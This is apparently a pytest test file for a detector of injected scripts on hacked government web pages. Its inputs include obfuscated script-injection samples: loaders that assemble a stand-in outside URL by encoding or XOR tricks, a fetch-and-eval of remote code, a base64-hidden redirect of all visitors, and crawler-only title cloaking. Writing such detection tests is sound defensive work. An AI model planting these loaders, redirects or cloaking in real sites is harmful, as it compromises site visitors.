"""Who has broken in, as the twentieth blind set showed it, by cause."""

from __future__ import annotations

import pytest
from read_tools import read

from xuncha.read.intruders.foldedliterals import folded
from xuncha.read.pagefacts import Page

URL = "http://www.shili.gov.cn/"
TO_READ = "<p>" + "会议部署防汛工作，要求各单位落实责任。" * 8 + "</p>"
FILE = "https://cdn.tongji-js.example/a/k.js"
MAKES = "var s=document.createElement('script');s.src=u;document.head.appendChild(s);"


def page(code: str) -> Page:
    return read(URL, f"<title>某县</title><script>{code}</script>{TO_READ}")


def loaded(code: str) -> list[str]:
    signs = page(code).signs
    return [url for _, url in signs.loaded] if signs else []


def tricks(code: str) -> tuple[str, ...]:
    signs = page(code).signs
    return signs.tricks if signs else ()


def codes(text: str, key: int) -> str:
    return ",".join(str(ord(letter) ^ key) for letter in text)


@pytest.mark.parametrize(
    ("script", "comes_to"),
    [
        ("u='a'+\"b\"+'c';", 'u="abc";'),
        ("u=['//','a','/t.js'].join('');", 'u="//a/t.js";'),
        ("u='sj.t/a//'.split('').reverse().join('');", 'u="//a/t.js";'),
        ("u='hxxps:##a'.replace('xx','tt').replace(/#/g,'/');", 'u="https://a";'),
        ("u='a#b#c'.replace('#','.');", 'u="a.b#c";'),
        ("u='a#b#c'.split('#').join('/');", 'u="a/b/c";'),
        ("u=decodeURIComponent('%2f%2fa');", 'u="//a";'),
        ("u=atob(atob('THk5aA=='));", 'u="//a";'),
        ("u=String.fromCharCode(47,47,97);", 'u="//a";'),
        ("var a='//',b='x';s.src=a+b;", "var a='//',b='x';s.src=\"//x\";"),
        ("var u='//';u+='x';u+='/y';", 'var u="//x/y";;;'),
        ("s['s'+'rc']='//x';", "s.src='//x';"),
        ("s.setAttribute('src','//x');", "s.src='//x';"),
        # What is not made of literals alone.
        ("u='a'+f();", "u='a'+f();"),
        ("var a='//x';a=f();s.src=a;", "var a='//x';a=f();s.src=a;"),
        ("u='a.b'.replace(/\\w+/g,'c');", "u='a.b'.replace(/\\w+/g,'c');"),
    ],
)
def test_what_literals_come_to(script: str, comes_to: str) -> None:
    assert folded(script) == comes_to


@pytest.mark.parametrize(
    "script",
    [
        f"a='{'x' * 2000}';b=" + "+".join(["a"] * 2500) + ";",
        f"a='{'x' * 1500}';" + "".join(f"b{n}=[a,a,a,a,a];" for n in range(350)),
        "".join(f"'{'a' * 1900}'.replace(/a/g,'{'b' * 1900}');" for _ in range(2)),
    ],
)
def test_a_script_made_to_grow_stays_as_it_is(script: str) -> None:
    assert folded(script) == script


@pytest.mark.parametrize(
    "code",
    [
        f"var u=[{','.join(repr(c) for c in FILE)}].join('');{MAKES}",
        f"var u='hxxps://cdn#tongji-js#example/a/k#js'.replace('xx','tt').replace(/#/g,'.');{MAKES}",
        f"var u=decodeURIComponent('{''.join(f'%{ord(c):02x}' for c in FILE)}');{MAKES}",
        "var h='h',t='t',p='p',a='s://cdn.tongji-js.example/a/k.js';var u=h+t+t+p+a;" + MAKES,
        "var u='https:';u+='//cdn.tongji-js';u+='.example/a/k.js';" + MAKES,
        "var a='https://cdn.',b='tongji-js.example',c='/a/k.js';var s=document.createElement('script');s.setAttribute('src',a+b+c);",
        "var s=document.createElement('scr'+'ipt');s['s'+'rc']=['//','cdn.tongji-js','.example','/a/k.js'].join('');",
        f"$.getScript('{FILE}');",
        f"fetch('{FILE}').then(function(r){{return r.text()}}).then(function(t){{eval(t)}});",
    ],
)
def test_a_script_of_a_stranger_whose_address_is_put_together(code: str) -> None:
    assert [url.removeprefix("https:").removeprefix("http:") for url in loaded(code)] == [
        "//cdn.tongji-js.example/a/k.js"
    ]


@pytest.mark.parametrize(
    "code",
    [
        "var a='//www.shili.gov.cn',b='/js/tj.js';var s=document.createElement('script');s.src=a+b;",
        "var u='sj.nim/sj/'.split('').reverse().join('');" + MAKES,
        "var u='//hm.'+'baidu.com';u+='/hm.js?1';" + MAKES,
        "$.getScript('/js/common.js');",
        "fetch('/data/news.json').then(function(r){return r.json()});",
    ],
)
def test_an_address_of_its_own_that_is_put_together(code: str) -> None:
    assert loaded(code) == []
    assert tricks(code) == ()


@pytest.mark.parametrize(
    "code",
    [
        f"var u='';var c=[{codes(FILE, 7)}];for(var i=0;i<c.length;i++){{u+=String.fromCharCode(c[i]^7);}}{MAKES}",
        f"var u=[{codes(FILE, 35)}].map(function(c){{return String.fromCharCode(c^35)}}).join('');{MAKES}",
        f"var u='';[{','.join(str(ord(c) + 3) for c in FILE)}].forEach(function(c){{u+=String.fromCharCode(c-3)}});{MAKES}",
    ],
)
def test_codes_turned_by_a_key(code: str) -> None:
    assert tricks(code) == ("coded_script",)


def test_codes_of_a_letterbox_are_no_trick() -> None:
    box = codes("xinxiang-bangongshi@shili.gov.cn", 9)
    code = f"var e='';[{box}].forEach(function(c){{e+=String.fromCharCode(c^9)}});document.getElementById('m').innerHTML=e;"
    assert tricks(code) == ()


@pytest.mark.parametrize(
    ("code", "seen"),
    [
        (
            "document.addEventListener('click',function(){window.open('https://a.example/x');});",
            True,
        ),
        ("window.onpopstate=function(){location.href='https://a.example/x';};", True),
        ('document.addEventListener("click",function(){location="//a.example/x";});', True),
        ("document.addEventListener('click',function(){window.open('/tc/index.html');});", False),
        ("window.onpopstate=function(e){location.href='/index.html';};", False),
        ("box.addEventListener('click',function(){window.open('https://a.example/x');});", False),
    ],
)
def test_the_next_step_leads_to_a_stranger(code: str, seen: bool) -> None:
    assert tricks(code) == (("everybody",) if seen else ())


def test_what_a_page_tells_engines_as_data() -> None:
    def keywords(data: str) -> str:
        told = f'<script type="application/ld+json">{data}</script>'
        signs = read(URL, f"<title>某县</title>{told}{TO_READ}").signs
        return signs.keywords if signs else ""

    assert "百家乐" in keywords('{"name":"真人百家乐在线投注平台"}')
    assert keywords('{"name":"某县人民政府"}') == ""


@pytest.mark.parametrize(
    ("code", "seen"),
    [
        (
            "window[atob('bG9jYXRpb24=')][atob('aHJlZg==')]=atob('aHR0cHM6Ly93d3cuaHVhbmxlLmV4YW1wbGUv');",
            ("everybody",),
        ),
        ("window['location']['href']=['/ind','ex.html'].join('');", ()),
    ],
)
def test_everybody_is_led_away_by_words_in_pieces(code: str, seen: tuple[str, ...]) -> None:
    assert tricks(code) == seen


@pytest.mark.parametrize(
    ("code", "seen"),
    [
        (
            "var ua=navigator.userAgent.toLowerCase();if(ua.indexOf('baiduspider')>-1){document.title='x';}",
            ("spider_title",),
        ),
        ("var ua=navigator.userAgent;if(ua.indexOf('MSIE')>-1){document.title='x';}", ()),
        ("var ua=navigator.userAgent;if(/spider/.test(ua)){count();}document.title='x';", ()),
    ],
)
def test_spiders_known_by_a_name_are_told_another_title(code: str, seen: tuple[str, ...]) -> None:
    assert tricks(code) == seen
